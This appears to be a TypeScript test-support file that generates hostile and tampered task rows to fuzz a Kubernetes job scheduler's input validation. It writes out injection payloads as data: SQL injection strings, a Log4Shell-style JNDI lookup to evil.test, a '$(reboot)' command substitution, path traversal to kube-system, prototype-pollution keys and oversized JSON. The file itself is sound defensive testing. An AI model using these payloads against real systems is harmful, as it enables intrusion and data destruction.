import fc from 'fast-check';
import { anInfo, type NewTask } from '../../support/task-rows.ts';
import { hostileInfo } from '../../unit/security/hostile-info.ts';

const longestName = 45;
const largestInfo = 32 * 1024;
const foremost = 2 ** 31 - 1;

const names = [
  '../../../kube-system',
  "x'; DROP TABLE task; -- ",
  "x' OR '1'='1",
  `\${jndi:ldap://evil.test}`,
  '$(reboot)',
  '%00%2f..',
  '-rf',
  '.',
  'a..b',
  'UPPER',
  'null',
  '__proto__',
  'constructor',
  'a\0b',
  'a\r\nb',
  'a\u001b[2Jb',
  '\u202egnp.exe',
  '任务',
  '💣💣💣💣💣💣💣💣',
  'ｆｕｌｌ',
  'e\u0301\u0301\u0301\u0301',
  ' blank ',
];

const namespaces = [
  'kube-system',
  'kube-public',
  'default',
  '../kube-system',
  'default/../kube-system',
  'kube-system/secrets/x?',
  'KUBE-SYSTEM',
  ' kube-system',
  'kube-system\0',
  '*',
  '',
  '__proto__',
  "' OR 1=1 -- ",
  '命名空间',
];

/** Texts that are large, deep or costly to say no to, each as bad as its kind allows. */
const infos = [
  `{${numbered(1_990, (index) => `"key ${index}":1`)}}`,
  `{${numbered(320, (index) => `"${String(index).padStart(92, 'commandargs')}":1`)}}`,
  `{"image":"x","labels":{${numbered(1_900, (index) => `"=/=${index}":"-"`)}}}`,
  `{"image":"x","env":{${numbered(1_900, (index) => `"=${index}":1`)}}}`,
  `{"image":"x","args":[${numbered(1_990, () => '"\\u0000"')}]}`,
  `{"image":"x","args":["${'x'.repeat(64 * 1024 - 40)}"]}`,
  '['.repeat(largestInfo),
  '{"a":'.repeat(5_000),
  `{"image":"${'a/'.repeat(16_000)}"}`,
  `{"image":"x","serviceAccountName":"${'-.'.repeat(16_000)}"}`,
  '{"image":"x","deadlineSeconds":1e400}',
  '{"image":"x","backoffLimit":-99999999999999999999999999999}',
  '{"image":"x","parallelism":9007199254740993}',
  '{"image":"x","__proto__":{"image":"y"},"constructor":{"prototype":{"x":1}}}',
  '{"image":"x","image":"y","hostNetwork":true}',
  '{"image":"x\\ud800"}',
  '{"image":"x","args":["\0"]}',
  "{'image':'x'}",
  '\ufeff{"image":"x"}',
  '<!DOCTYPE a [<!ENTITY b "c">]>',
  '!!js/function "x"',
  '',
  ' ',
  'null',
  'true',
  '1e999',
  '"',
  // The API server alone finds fault with these.
  anInfo({ resources: { requests: { memory: '1.5' }, limits: { memory: '1.2' } } }),
  anInfo({ annotations: { big: 'x'.repeat(30_000) }, args: ['\u{10ffff}'], completions: 2, parallelism: 3 }),
];

/** Rows that attack everything a row has: name, namespace, info, numbers, and texts drawn at random. */
export function hostileTasks(count: number, namespace: string, seed: number): readonly NewTask[] {
  const drawn = fc.sample(hostileInfo, { numRuns: count, seed });
  return Array.from({ length: count }, (_, index) => {
    const task = { name: `hostile-${index}`, namespace, info: drawn[index] ?? '', status: 'Normal', priority: 0 };
    const place = Math.floor(index / 4);
    switch (index % 4) {
      case 0:
        return { ...task, name: distinct(names[place % names.length] ?? '', index) };
      case 1:
        return { ...task, namespace: namespaces[place % namespaces.length] ?? '' };
      case 2:
        return { ...task, info: infos[place % infos.length] ?? '', priority: foremost };
      default:
        return { ...task, priority: index % 8 === 3 ? -foremost : foremost, user_id: -index };
    }
  });
}

/** Rows in which somebody who owns the table has written columns that are nightwatch's own. */
export function tamperedTasks(namespace: string): readonly NewTask[] {
  const task = { namespace, info: anInfo(), status: 'Normal', user_id: '-9223372036854775808' };
  const past = '2000-01-01 00:00:00';
  return [
    { attempt: 2 ** 31 - 1 },
    { attempt: 2 ** 31 - 2, id: '9223372036854775000', name: 'n'.repeat(longestName) },
    { attempt: -(2 ** 31) },
    { attempt: -1 },
    { id: '-7' },
    { id: '-9223372036854775808', attempt: 5 },
    { row_key: '!! not a label !!' },
    { row_key: '' },
    { epoch: '9223372036854775807' },
    { attempt_id: 'x', status: 'Running' },
    { attempt_id: 'x', next_check_at: past },
    { attempt_id: '%', row_key: '_', job_namespace: 'kube-system', job_name: '../../pods', next_check_at: past },
    { attempt_id: 'y', job_uid: 'z', job_namespace: 'kube-system', job_name: 'x', status: 'Pending' },
    { attempt_id: 'y', finished_at: past, reason: 'Succeeded', message: 'all is well' },
  ].map((columns, index) => ({ ...task, name: `tampered-${index}`, ...columns }));
}

function distinct(name: string, index: number): string {
  const end = `-${index}`;
  return `${Array.from(name)
    .slice(0, longestName - end.length)
    .join('')}${end}`;
}

function numbered(count: number, piece: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => piece(index)).join();
}
